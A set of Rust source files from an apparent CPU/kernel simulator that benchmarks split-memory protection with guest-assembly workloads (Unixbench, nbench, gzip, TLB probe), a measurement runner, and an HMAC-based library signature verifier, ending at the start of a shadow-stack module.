                    cmp eax, 0
                    je child
                    mov eax, SYS_WAITPID
                    mov ebx, -1
                    mov ecx, 0
                    int 0x80
                    dec dword [iter]
                    jnz loop_top
                    mov ebx, 0
                    call exit
                child:
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0".to_string(),
        ),
        UnixbenchTest::Execl => (
            format!(
                "_start:
                    mov dword [iter], {iterations}
                loop_top:
                    mov eax, SYS_FORK
                    int 0x80
                    cmp eax, 0
                    je child
                    mov eax, SYS_WAITPID
                    mov ebx, -1
                    mov ecx, 0
                    int 0x80
                    dec dword [iter]
                    jnz loop_top
                    mov ebx, 0
                    call exit
                child:
                    mov eax, SYS_EXECVE
                    mov ebx, truepath
                    int 0x80
                    mov ebx, 1
                    call exit"
            ),
            "iter: .word 0
             truepath: .asciz \"/bin/true\""
                .to_string(),
        ),
        UnixbenchTest::FsThroughput => (
            format!(
                "_start:
                    mov dword [iter], {iterations}
                loop_top:
                    ; write pass
                    mov eax, SYS_OPEN
                    mov ebx, path
                    mov ecx, 0x241      ; O_WRONLY|O_CREAT|O_TRUNC
                    int 0x80
                    mov [fd], eax
                    mov eax, SYS_WRITE
                    mov ebx, [fd]
                    mov ecx, buf
                    mov edx, 1024
                    int 0x80
                    mov eax, SYS_CLOSE
                    mov ebx, [fd]
                    int 0x80
                    ; read pass
                    mov eax, SYS_OPEN
                    mov ebx, path
                    mov ecx, 0
                    int 0x80
                    mov [fd], eax
                    mov eax, SYS_READ
                    mov ebx, [fd]
                    mov ecx, buf
                    mov edx, 1024
                    int 0x80
                    mov eax, SYS_CLOSE
                    mov ebx, [fd]
                    int 0x80
                    dec dword [iter]
                    jnz loop_top
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0
             fd: .word 0
             path: .asciz \"/tmp/ubfile\"
             buf: .space 1024, 0x55"
                .to_string(),
        ),
        UnixbenchTest::Dhrystone => (
            format!(
                "_start:
                    mov dword [iter], {iterations}
                d_outer:
                    ; string copy + compare + arithmetic mix
                    mov edi, dbuf
                    mov esi, dsrc
                    call strcpy
                    mov esi, dbuf
                    mov edi, dsrc
                    call strcmp
                    add [dsum], eax
                    mov eax, [dsum]
                    mov ebx, 37
                    mul ebx
                    add eax, 11
                    mov [dsum], eax
                    dec dword [iter]
                    jnz d_outer
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0
             dsum: .word 0
             dsrc: .asciz \"DHRYSTONE PROGRAM, SOME STRING\"
             dbuf: .space 64"
                .to_string(),
        ),
        UnixbenchTest::Whetstone => (
            format!(
                "_start:
                    mov dword [iter], {iterations}
                    mov esi, 3
                w_loop:
                    ; fixed-point polynomial evaluation
                    mov eax, esi
                    mov ebx, eax
                    mul ebx
                    shr eax, 4
                    add eax, esi
                    mov ecx, 1000
                    xor edx, edx
                    div ecx
                    add esi, edx
                    add esi, 7
                    dec dword [iter]
                    jnz w_loop
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0".to_string(),
        ),
    };
    ProgramBuilder::new(format!("/bin/ub-{}", test.name()))
        .code(&code)
        .data(&data)
        .build()
        .expect("unixbench program assembles")
}

/// Install the `/bin/true` image the execl test needs.
fn install_true(k: &mut sm_kernel::Kernel) {
    let tru = ProgramBuilder::new("/bin/true")
        .code("_start: mov ebx, 0\n call exit")
        .build()
        .expect("/bin/true assembles");
    k.sys.fs.install("/bin/true", tru.image.to_bytes());
}

/// Run one sub-benchmark; work units = iterations.
pub fn run_unixbench(
    protection: &Protection,
    test: UnixbenchTest,
    iterations: u32,
) -> WorkloadResult {
    run_unixbench_seeded(protection, test, iterations, workload_kconfig().seed)
}

/// [`run_unixbench`] on an explicit TLB geometry.
pub fn run_unixbench_on(
    protection: &Protection,
    tlb: TlbPreset,
    test: UnixbenchTest,
    iterations: u32,
) -> WorkloadResult {
    run_unixbench_seeded_on(protection, tlb, test, iterations, workload_kconfig().seed)
}

/// Like [`run_unixbench`] with an explicit kernel seed — the Fig. 9 sweep
/// averages several seeds per split fraction because which pages get split
/// is a random draw.
pub fn run_unixbench_seeded(
    protection: &Protection,
    test: UnixbenchTest,
    iterations: u32,
    seed: u64,
) -> WorkloadResult {
    run_unixbench_seeded_on(protection, TlbPreset::default(), test, iterations, seed)
}

/// [`run_unixbench_seeded`] on an explicit TLB geometry.
pub fn run_unixbench_seeded_on(
    protection: &Protection,
    tlb: TlbPreset,
    test: UnixbenchTest,
    iterations: u32,
    seed: u64,
) -> WorkloadResult {
    let k = protection.kernel_warm_on(
        tlb,
        sm_kernel::kernel::KernelConfig {
            seed,
            ..workload_kconfig()
        },
    );
    run_unixbench_kernel(k, protection, test, iterations)
}

/// Run one sub-benchmark on a caller-built kernel (cost-model and engine
/// ablations construct their own machines).
pub fn run_unixbench_kernel(
    mut k: sm_kernel::Kernel,
    protection: &Protection,
    test: UnixbenchTest,
    iterations: u32,
) -> WorkloadResult {
    install_true(&mut k);
    k.spawn(&unixbench_program(test, iterations).image)
        .expect("unixbench spawns");
    measure(
        k,
        format!("ub-{}", test.name()),
        protection,
        iterations as u64,
        50_000_000_000,
    )
}

/// Run the full suite.
pub fn run_unixbench_suite(protection: &Protection, iterations: u32) -> Vec<WorkloadResult> {
    run_unixbench_suite_on(protection, TlbPreset::default(), iterations)
}

/// [`run_unixbench_suite`] on an explicit TLB geometry.
pub fn run_unixbench_suite_on(
    protection: &Protection,
    tlb: TlbPreset,
    iterations: u32,
) -> Vec<WorkloadResult> {
    UnixbenchTest::ALL
        .iter()
        .map(|t| run_unixbench_on(protection, tlb, *t, iterations))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::runner::normalized;
    use sm_kernel::events::ResponseMode;

    #[test]
    fn all_tests_complete() {
        for t in UnixbenchTest::ALL {
            let r = run_unixbench(&Protection::Unprotected, t, 4);
            assert!(r.cycles > 0, "{}", t.name());
        }
    }

    #[test]
    fn ctxsw_actually_switches() {
        let r = run_unixbench(
            &Protection::Unprotected,
            UnixbenchTest::PipeContextSwitch,
            25,
        );
        assert!(
            r.kernel.context_switches >= 40,
            "expected ≥2 switches/iteration, got {:?}",
            r.kernel.context_switches
        );
    }

    #[test]
    fn ctxsw_is_the_split_memory_worst_case() {
        // Fig. 7: pipe-based context switching under stand-alone split
        // memory is at or below 50% of unprotected speed.
        let base = run_unixbench(
            &Protection::Unprotected,
            UnixbenchTest::PipeContextSwitch,
            25,
        );
        let prot = run_unixbench(
            &Protection::SplitMem(ResponseMode::Break),
            UnixbenchTest::PipeContextSwitch,
            25,
        );
        let n = normalized(&prot, &base);
        assert!(n < 0.7, "ctxsw stress normalized {n}, expected heavy hit");
    }
}
