//! Set-conflict TLB stress probe (Fig. 7 counter diagnostics).
//!
//! The paper's workloads have small, contiguous page footprints, so on the
//! Pentium III geometries consecutive pages spread evenly across sets and
//! set-associativity is almost invisible in the normalized results. This
//! probe makes the conflict pressure explicit: it walks `pages` data pages
//! whose virtual page numbers are exactly `stride_pages` apart, so with
//! `stride_pages` a multiple of the D-TLB set count every touched page
//! lands in the *same* set. A working set bigger than the set's way count
//! (but far smaller than total capacity) then thrashes that one set on
//! every round — pure conflict misses, the class a fully-associative
//! buffer of the same size would never take.

use crate::runner::{measure, workload_kconfig, WorkloadResult};
use sm_core::setup::Protection;
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::pte::PAGE_SIZE;
use sm_machine::TlbPreset;

/// Build the probe: each round touches one word in each of `pages` pages
/// spaced `stride_pages` apart, for `rounds` rounds.
pub fn probe_program(pages: u32, stride_pages: u32, rounds: u32) -> BuiltProgram {
    assert!(pages >= 2, "a one-page probe exerts no pressure");
    let stride_bytes = stride_pages * PAGE_SIZE;
    // The data block must reach the last touched word.
    let span = (pages - 1) * stride_bytes + 4;
    ProgramBuilder::new("/bin/tlbprobe")
        .code(&format!(
            "_start:
                mov dword [iter], {rounds}
            outer:
                mov ecx, 0
            touch:
                mov eax, ecx
                mov ebx, {stride_bytes}
                mul ebx
                inc dword [area+eax]
                inc ecx
                cmp ecx, {pages}
                jne touch
                dec dword [iter]
                jnz outer
                mov ebx, 0
                call exit"
        ))
        .data(&format!(
            "iter: .word 0
             .align 4096
             area: .space {span}"
        ))
        .build()
        .expect("tlb probe assembles")
}

/// Run the probe; work units = rounds.
pub fn run_tlb_probe(
    protection: &Protection,
    tlb: TlbPreset,
    pages: u32,
    stride_pages: u32,
    rounds: u32,
) -> WorkloadResult {
    let mut k = protection.kernel_warm_on(tlb, workload_kconfig());
    k.spawn(&probe_program(pages, stride_pages, rounds).image)
        .expect("tlb probe spawns");
    measure(
        k,
        format!("tlbprobe-{pages}x{stride_pages}"),
        protection,
        rounds as u64,
        50_000_000_000,
    )
}

/// A probe sized to thrash one D-TLB set of `tlb`: `ways + 4` pages at a
/// stride equal to the set count, so all of them contend for a single set
/// while staying far below total capacity.
pub fn run_conflict_probe(protection: &Protection, tlb: TlbPreset, rounds: u32) -> WorkloadResult {
    run_tlb_probe(
        protection,
        tlb,
        tlb.dtlb.ways as u32 + 4,
        tlb.dtlb.sets as u32,
        rounds,
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn probe_thrashes_one_set_on_pentium3() {
        let r = run_conflict_probe(&Protection::Unprotected, TlbPreset::pentium3(), 50);
        assert!(
            r.dtlb.conflict_misses > 0,
            "an 8-page single-set working set must conflict-miss on a 4-way D-TLB: {:?}",
            r.dtlb
        );
        // Way below capacity: the fully-associative shadow holds the whole
        // working set, so steady-state misses are conflicts, not capacity.
        assert!(
            r.dtlb.conflict_misses > r.dtlb.capacity_misses,
            "probe pressure should be conflict-dominated: {:?}",
            r.dtlb
        );
    }

    #[test]
    fn probe_is_conflict_free_when_fully_associative() {
        let r = run_conflict_probe(&Protection::Unprotected, TlbPreset::default(), 50);
        assert_eq!(
            r.dtlb.conflict_misses, 0,
            "a single-set buffer cannot take conflict misses: {:?}",
            r.dtlb
        );
    }
}
