//! nbench-like compute suite (paper §6.2: "the nbench suite was used to
//! show the performance under a set of primarily computation-based tests.
//! The slowest test in the nbench system came in at just under
//! 97 percent.").
//!
//! Three single-process, cache/TLB-friendly kernels: numeric sort,
//! bitfield manipulation and integer arithmetic. They make almost no
//! system calls and never context-switch, so split memory's only cost is
//! the initial TLB population — reproducing the paper's ≈97% result.

use crate::runner::{measure, workload_kconfig, WorkloadResult};
use sm_core::setup::Protection;
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::TlbPreset;

/// The sub-benchmarks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NbenchKernel {
    /// Insertion sort over LCG-filled arrays.
    NumericSort,
    /// Bitmap set/toggle sweeps.
    Bitfield,
    /// Tight mul/div/add dependency chain.
    IntArithmetic,
}

impl NbenchKernel {
    /// All sub-benchmarks.
    pub const ALL: [NbenchKernel; 3] = [
        NbenchKernel::NumericSort,
        NbenchKernel::Bitfield,
        NbenchKernel::IntArithmetic,
    ];

    /// Label.
    pub fn name(&self) -> &'static str {
        match self {
            NbenchKernel::NumericSort => "numeric-sort",
            NbenchKernel::Bitfield => "bitfield",
            NbenchKernel::IntArithmetic => "int-arith",
        }
    }
}

/// Build one sub-benchmark with the given iteration count.
pub fn nbench_program(kernel: NbenchKernel, iterations: u32) -> BuiltProgram {
    let (code, data) = match kernel {
        NbenchKernel::NumericSort => (
            format!(
                "_start:
                    mov dword [iter], {iterations}
                outer:
                    ; refill the array from an LCG
                    mov ecx, 0
                    mov eax, [seed]
                fill:
                    mov ebx, 1103515245
                    mul ebx
                    add eax, 12345
                    mov [arr+ecx*4], eax
                    inc ecx
                    cmp ecx, 256
                    jne fill
                    mov [seed], eax
                    ; insertion sort
                    mov esi, 1
                sort_outer:
                    cmp esi, 256
                    jae sort_done
                    mov eax, [arr+esi*4]
                    mov edi, esi
                sort_inner:
                    cmp edi, 0
                    je insert
                    mov ecx, [arr+edi*4-4]
                    cmp ecx, eax
                    jbe insert
                    mov [arr+edi*4], ecx
                    dec edi
                    jmp sort_inner
                insert:
                    mov [arr+edi*4], eax
                    inc esi
                    jmp sort_outer
                sort_done:
                    dec dword [iter]
                    jnz outer
                    ; verify sortedness of the final array
                    mov esi, 1
                check:
                    cmp esi, 256
                    jae ok
                    mov eax, [arr+esi*4-4]
                    cmp eax, [arr+esi*4]
                    ja bad
                    inc esi
                    jmp check
                bad:
                    mov ebx, 1
                    call exit
                ok:
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0
             seed: .word 12345
             arr: .space 1024",
        ),
        NbenchKernel::Bitfield => (
            format!(
                "_start:
                    mov dword [iter], {iterations}
                bf_outer:
                    mov ecx, 0
                bf_loop:
                    mov eax, ecx
                    shr eax, 5
                    mov edx, ecx
                    and edx, 31
                    mov ebx, 1
                    push ecx
                    mov ecx, edx
                    shl ebx, cl
                    pop ecx
                    or [bitmap+eax*4], ebx
                    xor [bitmap+eax*4], ebx
                    inc ecx
                    cmp ecx, 4096
                    jne bf_loop
                    dec dword [iter]
                    jnz bf_outer
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0
             bitmap: .space 512",
        ),
        NbenchKernel::IntArithmetic => (
            format!(
                "_start:
                    mov dword [iter], {iterations}
                    mov esi, 7
                ar_loop:
                    mov eax, esi
                    mov ebx, 13
                    mul ebx
                    add eax, 17
                    xor edx, edx
                    mov ecx, 11
                    div ecx
                    add esi, eax
                    mov eax, esi
                    shl eax, 3
                    sub eax, esi
                    add esi, eax
                    dec dword [iter]
                    jnz ar_loop
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0",
        ),
    };
    ProgramBuilder::new(format!("/bin/nbench-{}", kernel.name()))
        .code(&code)
        .data(data)
        .build()
        .expect("nbench program assembles")
}

/// Run one sub-benchmark; work units = iterations.
pub fn run_nbench(
    protection: &Protection,
    kernel: NbenchKernel,
    iterations: u32,
) -> WorkloadResult {
    run_nbench_on(protection, TlbPreset::default(), kernel, iterations)
}

/// [`run_nbench`] on an explicit TLB geometry.
pub fn run_nbench_on(
    protection: &Protection,
    tlb: TlbPreset,
    kernel: NbenchKernel,
    iterations: u32,
) -> WorkloadResult {
    let mut k = protection.kernel_warm_on(tlb, workload_kconfig());
    k.spawn(&nbench_program(kernel, iterations).image)
        .expect("nbench spawns");
    measure(
        k,
        format!("nbench-{}", kernel.name()),
        protection,
        iterations as u64,
        50_000_000_000,
    )
}

/// Run the whole suite.
pub fn run_nbench_suite(protection: &Protection, iterations: u32) -> Vec<WorkloadResult> {
    NbenchKernel::ALL
        .iter()
        .map(|nk| run_nbench(protection, *nk, iterations))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::runner::normalized;
    use sm_kernel::events::ResponseMode;

    #[test]
    fn all_kernels_complete() {
        for nk in NbenchKernel::ALL {
            let r = run_nbench(&Protection::Unprotected, nk, 3);
            assert!(r.cycles > 0, "{}", nk.name());
        }
    }

    #[test]
    fn compute_bound_overhead_is_small() {
        // The paper's nbench result: just under 97% — pure compute barely
        // notices split memory.
        // Long enough to amortise the one-time split/reload costs, as the
        // real (minutes-long) nbench run does.
        let base = run_nbench(&Protection::Unprotected, NbenchKernel::IntArithmetic, 5000);
        let prot = run_nbench(
            &Protection::SplitMem(ResponseMode::Break),
            NbenchKernel::IntArithmetic,
            5000,
        );
        let n = normalized(&prot, &base);
        assert!(n > 0.9, "compute-bound normalized {n} too slow");
    }
}
