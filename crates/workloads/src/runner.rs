//! Workload measurement plumbing.
//!
//! Every performance experiment in the paper reports *relative* throughput:
//! a workload's useful work divided by the time it took, protected vs.
//! unprotected. The runner measures simulated cycles (deterministic — no
//! host timing noise) between "processes spawned" and "all processes
//! exited", together with the machine/kernel counters that explain the
//! overhead (TLB flushes, reload faults, context switches).

use sm_core::setup::Protection;
use sm_kernel::kernel::{Kernel, KernelConfig, RunExit};
use sm_kernel::stats::KernelStats;
use sm_machine::stats::MachineStats;
use sm_machine::tlb::TlbStats;

/// One measured workload run.
#[derive(Debug, Clone)]
pub struct WorkloadResult {
    /// Workload label (e.g. `"apache-32k"`).
    pub name: String,
    /// Protection label it ran under.
    pub protection: String,
    /// Simulated cycles consumed.
    pub cycles: u64,
    /// Useful work units completed (requests, bytes, iterations — the
    /// workload defines the unit; only ratios matter).
    pub units: u64,
    /// Hardware counter deltas.
    pub machine: MachineStats,
    /// I-TLB counter deltas (hits, misses by class, evictions).
    pub itlb: TlbStats,
    /// D-TLB counter deltas.
    pub dtlb: TlbStats,
    /// Kernel counter deltas.
    pub kernel: KernelStats,
    /// Peak physical frames in use (the paper's §5.1 memory-doubling
    /// discussion).
    pub peak_frames: u32,
}

impl WorkloadResult {
    /// Work per cycle.
    pub fn throughput(&self) -> f64 {
        self.units as f64 / self.cycles as f64
    }
}

/// Normalised performance: `this` relative to `baseline` (1.0 = no
/// overhead; the paper's Figs. 6–9 plot exactly this).
pub fn normalized(this: &WorkloadResult, baseline: &WorkloadResult) -> f64 {
    this.throughput() / baseline.throughput()
}

/// Geometric mean (the Unixbench index).
pub fn geometric_mean(values: &[f64]) -> f64 {
    assert!(!values.is_empty(), "geometric mean of nothing");
    let log_sum: f64 = values.iter().map(|v| v.ln()).sum();
    (log_sum / values.len() as f64).exp()
}

/// Kernel configuration used by all performance workloads (bigger stacks
/// or custom quanta would just be another sensitivity axis; the paper uses
/// one system configuration for everything).
pub fn workload_kconfig() -> KernelConfig {
    KernelConfig::default()
}

/// Run a prepared kernel to completion and package the measurement.
///
/// # Panics
///
/// Panics if the workload deadlocks or fails to finish within
/// `max_cycles` — a workload bug, not a measurement outcome.
pub fn measure(
    mut kernel: Kernel,
    name: impl Into<String>,
    protection: &Protection,
    units: u64,
    max_cycles: u64,
) -> WorkloadResult {
    let name = name.into();
    let c0 = kernel.sys.machine.cycles;
    let m0 = kernel.sys.machine.stats;
    let i0 = kernel.sys.machine.itlb.stats;
    let d0 = kernel.sys.machine.dtlb.stats;
    let k0 = kernel.sys.stats;
    let exit = kernel.run(max_cycles);
    assert_eq!(
        exit,
        RunExit::AllExited,
        "workload `{name}` under {} did not finish: {exit:?}",
        protection.label()
    );
    // Surface guest failures loudly: a workload whose processes crashed
    // would otherwise report nonsense cycles.
    for p in kernel.sys.procs.values() {
        assert_eq!(
            p.exit_code,
            Some(0),
            "workload `{name}` process {} exited with {:?} (output: {})",
            p.name,
            p.exit_code,
            p.output_string()
        );
    }
    WorkloadResult {
        name,
        protection: protection.label(),
        cycles: kernel.sys.machine.cycles - c0,
        units,
        machine: kernel.sys.machine.stats.since(&m0),
        itlb: kernel.sys.machine.itlb.stats.since(&i0),
        dtlb: kernel.sys.machine.dtlb.stats.since(&d0),
        kernel: kernel.sys.stats.since(&k0),
        peak_frames: kernel.sys.machine.phys.allocator.peak_allocated(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn geometric_mean_basics() {
        assert!((geometric_mean(&[4.0, 1.0]) - 2.0).abs() < 1e-9);
        assert!((geometric_mean(&[1.0, 1.0, 1.0]) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn normalized_is_throughput_ratio() {
        let mk = |cycles, units| WorkloadResult {
            name: "t".into(),
            protection: "p".into(),
            cycles,
            units,
            machine: MachineStats::default(),
            itlb: TlbStats::default(),
            dtlb: TlbStats::default(),
            kernel: KernelStats::default(),
            peak_frames: 0,
        };
        let base = mk(100, 10);
        let slow = mk(200, 10);
        assert!((normalized(&slow, &base) - 0.5).abs() < 1e-12);
    }
}
