//! Performance workloads for the split-memory evaluation (paper §6.2).
//!
//! Each workload runs as real guest processes on the simulated machine and
//! reports deterministic cycle counts plus the hardware/kernel counters
//! that explain them:
//!
//! * [`httpd`] — Apache-like server + ApacheBench-like client (Figs. 6–8);
//! * [`gzip`] — `cat file | gzip` compression pipeline (Fig. 6);
//! * [`nbench`] — compute-bound suite (Fig. 6);
//! * [`unixbench`] — syscall/pipe/context-switch/spawn/exec/fs micro suite
//!   (Fig. 6 index, Fig. 7 worst case, Fig. 9 sweep);
//! * [`tlbprobe`] — strided set-conflict stress probe (Fig. 7 TLB counter
//!   diagnostics on set-associative geometries).

pub mod gzip;
pub mod httpd;
pub mod nbench;
pub mod runner;
pub mod tlbprobe;
pub mod unixbench;

pub use runner::{geometric_mean, normalized, WorkloadResult};
