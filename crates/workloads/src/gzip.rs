//! gzip-like compression workload (paper §6.2: "gzip was used to compress
//! a 256 MB file, and the operation was timed").
//!
//! Modelled as the classic `cat file | gzip` pipeline: a producer process
//! streams the input file through a pipe (1 KiB chunks) to a compressor process that runs
//! an LZ-flavoured byte loop (rolling hash, match table, literal/match
//! accounting). The pipe causes periodic context switches — the I/O-driven
//! switching a real gzip run experiences — while the byte loop provides the
//! compute between them.

use crate::runner::{measure, workload_kconfig, WorkloadResult};
use sm_core::setup::Protection;
use sm_kernel::kernel::KernelConfig;
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::TlbPreset;

/// Path of the input file in the ram fs.
pub const INPUT_PATH: &str = "/data/input";

/// Build the pipeline program (producer forks the compressor).
pub fn gzip_program() -> BuiltProgram {
    ProgramBuilder::new("/bin/gzip-pipeline")
        .code(
            "_start:
                mov eax, SYS_PIPE
                mov ebx, fds
                int 0x80
                mov eax, SYS_FORK
                int 0x80
                cmp eax, 0
                je compressor

            ; ---- producer (parent): stream the file into the pipe ------
                mov eax, SYS_CLOSE
                mov ebx, [fds]
                int 0x80
                mov eax, SYS_OPEN
                mov ebx, inpath
                mov ecx, 0
                int 0x80
                mov [infd], eax
            prod_loop:
                mov eax, SYS_READ
                mov ebx, [infd]
                mov ecx, chunk
                mov edx, 1024
                int 0x80
                cmp eax, 0
                jle prod_done
                mov [chunklen], eax
                mov dword [sent], 0
            prod_send:
                mov edx, [chunklen]
                sub edx, [sent]
                mov eax, SYS_WRITE
                mov ebx, [fds+4]
                mov ecx, chunk
                add ecx, [sent]
                int 0x80
                cmp eax, 0
                jle prod_done
                add [sent], eax
                mov edx, [chunklen]
                cmp [sent], edx
                jne prod_send
                jmp prod_loop
            prod_done:
                mov eax, SYS_CLOSE
                mov ebx, [fds+4]
                int 0x80
                mov eax, SYS_WAITPID
                mov ebx, -1
                mov ecx, 0
                int 0x80
                mov ebx, 0
                call exit

            ; ---- compressor (child): LZ-ish byte loop ------------------
            compressor:
                mov eax, SYS_CLOSE
                mov ebx, [fds+4]
                int 0x80
            comp_loop:
                mov eax, SYS_READ
                mov ebx, [fds]
                mov ecx, chunk
                mov edx, 1024
                int 0x80
                cmp eax, 0
                jle comp_done
                ; compress chunk[0..eax]
                mov ecx, eax         ; bytes left
                mov esi, chunk
                mov ebx, [hash]
            byte_loop:
                movzx eax, byte [esi]
                ; rolling hash = hash*31 + byte  (mod 1024)
                mov edx, ebx
                shl edx, 5
                sub edx, ebx
                add edx, eax
                and edx, 1023
                mov ebx, edx
                ; match check against the hash table
                movzx edx, byte [htab+ebx]
                cmp edx, eax
                je is_match
                mov [htab+ebx], al
                inc dword [literals]
                jmp advance
            is_match:
                inc dword [matches]
            advance:
                inc esi
                dec ecx
                jnz byte_loop
                mov [hash], ebx
                jmp comp_loop
            comp_done:
                mov ebx, 0
                call exit",
        )
        .data(
            "fds: .space 8
             infd: .word 0
             chunklen: .word 0
             sent: .word 0
             hash: .word 0
             literals: .word 0
             matches: .word 0
             inpath: .asciz \"/data/input\"
             chunk: .space 1024
             htab: .space 1024",
        )
        .build()
        .expect("gzip pipeline assembles")
}

/// Run the workload over `kilobytes` of pseudo-random input. Work units =
/// bytes compressed.
pub fn run_gzip(protection: &Protection, kilobytes: u32) -> WorkloadResult {
    run_gzip_on(protection, TlbPreset::default(), kilobytes)
}

/// [`run_gzip`] on an explicit TLB geometry.
pub fn run_gzip_on(protection: &Protection, tlb: TlbPreset, kilobytes: u32) -> WorkloadResult {
    // A 1 KiB pipe models the I/O batching of a disk-bound gzip run: the
    // pipeline context-switches about once per kilobyte.
    let mut kernel = protection.kernel_warm_on(
        tlb,
        KernelConfig {
            pipe_capacity: 1024,
            ..workload_kconfig()
        },
    );
    // Deterministic "file" contents with some repetition (so the match
    // path is exercised too). The input stream forks off the kernel's own
    // seeded rng so one `KernelConfig::seed` replays the whole run.
    let mut rng = kernel.sys.rng.fork();
    let data: Vec<u8> = (0..kilobytes as usize * 1024)
        .map(|i| {
            if i % 7 == 0 {
                b'x'
            } else {
                rng.gen_range(b'a'..=b'z')
            }
        })
        .collect();
    let bytes = data.len() as u64;
    kernel.sys.fs.install(INPUT_PATH, data);
    kernel
        .spawn(&gzip_program().image)
        .expect("pipeline spawns");
    measure(kernel, "gzip", protection, bytes, 50_000_000_000)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::runner::normalized;
    use sm_kernel::events::ResponseMode;

    #[test]
    fn compresses_unprotected() {
        let r = run_gzip(&Protection::Unprotected, 16);
        assert_eq!(r.units, 16 * 1024);
        assert!(r.kernel.context_switches > 4, "{:?}", r.kernel);
    }

    #[test]
    fn split_memory_overhead_is_moderate() {
        let base = run_gzip(&Protection::Unprotected, 16);
        let prot = run_gzip(&Protection::SplitMem(ResponseMode::Break), 16);
        let n = normalized(&prot, &base);
        assert!(n < 1.0 && n > 0.3, "gzip normalized {n}");
    }
}
