//! DigSig-style library verification (paper §4.3).
//!
//! "In order for libraries to be handled in a secure way, they must be
//! validated when being loaded. ... memory splitting could simply validate
//! the signature of the loaded library prior to loading and splitting it."
//!
//! The original delegates to DigSig (Linux) / VeriExec (NetBSD). We
//! implement the moral equivalent with an HMAC-SHA-256 over the image
//! contents under a system key: enough to "prevent an attacker from loading
//! a new or modified module into a running program's address space, while
//! still permitting valid modules to be loaded".

use crate::sha256::Sha256;
use sm_kernel::image::ExecImage;

const IPAD: u8 = 0x36;
const OPAD: u8 = 0x5c;

/// HMAC-SHA-256.
pub fn hmac_sha256(key: &[u8], message: &[u8]) -> [u8; 32] {
    let mut key_block = [0u8; 64];
    if key.len() > 64 {
        key_block[..32].copy_from_slice(&crate::sha256::sha256(key));
    } else {
        key_block[..key.len()].copy_from_slice(key);
    }
    let mut inner = Sha256::new();
    let ik: Vec<u8> = key_block.iter().map(|b| b ^ IPAD).collect();
    inner.update(&ik);
    inner.update(message);
    let inner_digest = inner.finalize();
    let mut outer = Sha256::new();
    let ok: Vec<u8> = key_block.iter().map(|b| b ^ OPAD).collect();
    outer.update(&ok);
    outer.update(&inner_digest);
    outer.finalize()
}

/// Signs and verifies executable images under a system key.
#[derive(Debug, Clone)]
pub struct Verifier {
    key: Vec<u8>,
}

/// Why verification failed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum VerifyError {
    /// The image carries no signature at all.
    Unsigned,
    /// The signature does not match the image contents under this key.
    BadSignature,
}

impl std::fmt::Display for VerifyError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            VerifyError::Unsigned => f.write_str("image is unsigned"),
            VerifyError::BadSignature => f.write_str("signature mismatch"),
        }
    }
}

impl std::error::Error for VerifyError {}

impl Verifier {
    /// Verifier with the given system key.
    pub fn new(key: impl Into<Vec<u8>>) -> Verifier {
        Verifier { key: key.into() }
    }

    /// Compute the signature for an image's contents.
    pub fn signature_for(&self, image: &ExecImage) -> [u8; 32] {
        hmac_sha256(&self.key, &image.signed_content())
    }

    /// Attach a valid signature (what the distribution's signing step does).
    pub fn sign(&self, image: &mut ExecImage) {
        image.signature = None;
        image.signature = Some(self.signature_for(image));
    }

    /// Check an image's signature.
    ///
    /// # Errors
    ///
    /// [`VerifyError::Unsigned`] or [`VerifyError::BadSignature`].
    pub fn verify(&self, image: &ExecImage) -> Result<(), VerifyError> {
        let claimed = image.signature.ok_or(VerifyError::Unsigned)?;
        // Constant-time-ish comparison (cosmetic in a simulator, but the
        // habit is free).
        let actual = self.signature_for(image);
        let diff = claimed
            .iter()
            .zip(actual.iter())
            .fold(0u8, |acc, (a, b)| acc | (a ^ b));
        if diff == 0 {
            Ok(())
        } else {
            Err(VerifyError::BadSignature)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sm_kernel::image::Segment;

    fn image() -> ExecImage {
        ExecImage {
            name: "/lib/libx.so".into(),
            segments: vec![Segment::code(0x4000_0000, vec![0x90, 0xC3])],
            entry: 0,
            libs: vec![],
            signature: None,
        }
    }

    // RFC 4231 test case 2.
    #[test]
    fn hmac_vector() {
        let mac = hmac_sha256(b"Jefe", b"what do ya want for nothing?");
        let hex: String = mac.iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!(
            hex,
            "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843"
        );
    }

    #[test]
    fn sign_then_verify() {
        let v = Verifier::new(b"system-key".to_vec());
        let mut img = image();
        assert_eq!(v.verify(&img), Err(VerifyError::Unsigned));
        v.sign(&mut img);
        assert_eq!(v.verify(&img), Ok(()));
    }

    #[test]
    fn tampered_image_is_rejected() {
        let v = Verifier::new(b"system-key".to_vec());
        let mut img = image();
        v.sign(&mut img);
        img.segments[0].data[0] = 0xCC; // attacker patches the library
        assert_eq!(v.verify(&img), Err(VerifyError::BadSignature));
    }

    #[test]
    fn wrong_key_is_rejected() {
        let signer = Verifier::new(b"system-key".to_vec());
        let other = Verifier::new(b"attacker-key".to_vec());
        let mut img = image();
        signer.sign(&mut img);
        assert_eq!(other.verify(&img), Err(VerifyError::BadSignature));
    }

    #[test]
    fn long_key_path() {
        let v = Verifier::new(vec![7u8; 100]);
        let mut img = image();
        v.sign(&mut img);
        assert_eq!(v.verify(&img), Ok(()));
    }
}
