//! Shadow-stack / coarse-CFI engine — the third engine beside split
//! memory and execute-disable.
//!
//! The paper's limitations section concedes that split memory stops code
//! *injection* but not code *reuse*: return-to-libc and ROP chains execute
